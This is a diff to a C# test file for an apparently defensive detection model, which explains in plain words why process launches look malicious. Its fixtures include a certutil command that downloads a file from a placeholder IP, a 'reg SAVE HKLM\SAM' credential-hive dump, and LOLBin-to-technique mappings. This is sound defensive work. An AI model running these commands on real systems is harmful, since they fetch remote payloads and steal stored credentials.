@@ -44,7 +44,7 @@ public class ReasonTests
         {
             var plain = PlainText(e);
             foreach (
-                var reason in Model.Explain(e, int.MaxValue).Where(
+                var reason in Model.Explain(e).Reasons(int.MaxValue).Where(
                     r =>
                         r.Feature.StartsWith("command_line.", StringComparison.Ordinal)
                             && r.Feature.Contains(':', StringComparison.Ordinal)))
@@ -64,7 +64,7 @@ public class ReasonTests
         var e = Some.ProcessEvent("winword.exe", "certutil.exe", "certutil -f http://203.0.113.27/Setup77.txt");
 
         var texts = Reasons.Strongest(
-            e,
+            Launch.Of(e),
             [("command_line.word:http #host", 3), ("command_line.word:*.txt", 2), ("command_line.trigram:#ho", 1)],
             3).Select(r => r.Text);
 
@@ -76,7 +76,7 @@ public class ReasonTests
     {
         var e = Some.ProcessEvent("cmd.exe", "reg.exe", @"reg SAVE HKLM\SAM c:\x.hiv");
 
-        var reason = Assert.Single(Reasons.Strongest(e, [("behaviour.registry_hives", 1)], 1));
+        var reason = Assert.Single(Reasons.Strongest(Launch.Of(e), [("behaviour.registry_hives", 1)], 1));
 
         Assert.NotNull(reason.Text);
         Assert.Equal("registry hives that hold secrets", reason.Description);
@@ -86,7 +86,7 @@ public class ReasonTests
     public void Buckets_that_nothing_of_the_event_fell_into_are_one_reason()
     {
         var reasons = Reasons.Strongest(
-            Some.ProcessEvent(), [("command_line.word.017", -0.2), ("command_line.word.400", -0.3), ("child.of_windows", 0.4)], 9);
+            Launch.Of(Some.ProcessEvent()), [("command_line.word.017", -0.2), ("command_line.word.400", -0.3), ("child.of_windows", 0.4)], 9);
 
         Assert.Equal([("command_line.word.absent", -0.5), ("child.of_windows", 0.4)], reasons.Select(r => (r.Feature, r.Weight)));
         Assert.Equal("no further words that the model knows", reasons[0].Description);
@@ -95,7 +95,7 @@ public class ReasonTests
     [Fact]
     public void The_first_reasons_for_a_download_by_a_document_are_what_an_analyst_would_say()
     {
-        var says = Model.Explain(Events[40], 6).Select(r => r.Description!).ToList();
+        var says = Model.Explain(Events[40]).Reasons(6).Select(r => r.Description!).ToList();
 
         TestContext.Current.TestOutputHelper?.WriteLine(string.Join("; ", says));
         Assert.Contains(says, s => s.Contains("Windows program that downloads code from the network", StringComparison.Ordinal));
@@ -119,7 +119,7 @@ public class ReasonTests
         Assert.Equal(
             words,
             Assert.Single(
-                Reasons.Strongest(Some.ProcessEvent("winword.exe", "notepad.exe", "notepad -fx"), [(feature, 1)], 1)).Description);
+                Reasons.Strongest(Launch.Of(Some.ProcessEvent("winword.exe", "notepad.exe", "notepad -fx")), [(feature, 1)], 1)).Description);
 
     [Theory]
     [InlineData("cmd.exe", "certutil.exe", "certutil -f", "child.lolbin", "LOLBin as the child: certutil.exe, T1105 Ingress Tool Transfer")]
@@ -128,7 +128,7 @@ public class ReasonTests
         "LOLBin inside the shell's command: regsvr32.exe, T1218.010 Regsvr32")]
     public void A_program_that_attackers_live_off_is_named_with_its_technique(
         string parent, string child, string commandLine, string feature, string words) =>
-        Assert.Equal(words, Assert.Single(Reasons.Strongest(Some.ProcessEvent(parent, child, commandLine), [(feature, 1)], 1)).Description);
+        Assert.Equal(words, Assert.Single(Reasons.Strongest(Launch.Of(Some.ProcessEvent(parent, child, commandLine)), [(feature, 1)], 1)).Description);
 
     /// <summary>
     /// The arguments in plain form, taken from the reasons' side only through what everyone can check: lower case, and what base64 hides.
